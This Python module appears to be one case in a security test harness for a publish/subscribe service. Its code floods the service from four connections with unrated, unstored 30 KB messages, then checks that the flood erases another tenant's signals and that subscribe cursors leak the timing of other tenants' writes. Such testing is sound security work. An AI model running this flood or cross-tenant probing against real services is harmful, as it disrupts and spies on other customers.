"""S9: requests without a rate, and what they erase and tell of others."""

import json
import time

from hostile.attack import Attack
from hostile.crowd import Crowd

CONNECTIONS, PAYLOAD_BYTES = 4, 30_000


class Rates(Attack):
    """36 MB that are not stored erased another tenant's signals; HTTP had no rate at all."""

    name, title = "S9", "4 connections publish 30 KB without storing it, without a pause"
    stranger = True

    def prepare(self, target):
        with target.rest("honest", target.honest) as rest:
            # In a channel that nobody has followed yet: it is remembered with those of all.
            self.cursor = rest.ok("/v2/subscribe/{sub}/elsewhere/0", {"tt": 0})["t"]["t"]
            rest.ok("/signal/{pub}/{sub}/0/heard/0/1")

    def strike(self, target, stop):
        publish = target.post(
            f"/publish/pub/{target.sub}/0/flood/0?uuid=m&store=0",
            json.dumps("x" * PAYLOAD_BYTES).encode())
        crowd = Crowd(CONNECTIONS, lambda _: target.socket(), lambda _: publish, depth=8)
        crowd.run(stop)
        return {"bytes sent": crowd.sent_bytes} | crowd.counts

    def cases(self, target):
        with target.rest("honest", target.honest) as rest, target.rest() as other:
            rest.publish("heard", "so that the poll ends")
            heard = rest.ok("/v2/subscribe/{sub}/heard/0", {"tt": self.cursor})["m"]
            first = int(rest.ok("/v2/subscribe/{sub}/quiet/0", {"tt": 0})["t"]["t"])
            other.publish("den", 1)
            written = other.publish("den", 2)
            time.sleep(0.2)  # A clock that tells nothing has moved by far more than a write takes.
            second = int(rest.ok("/v2/subscribe/{sub}/quiet/0", {"tt": 0})["t"]["t"])
        return [
            ("erases the honest tenant's signal", any(it.get("e") == 1 for it in heard)),
            ("a fresh cursor is that of another tenant's write",
             first != second and abs(second - written) > 1_000_000),
        ]
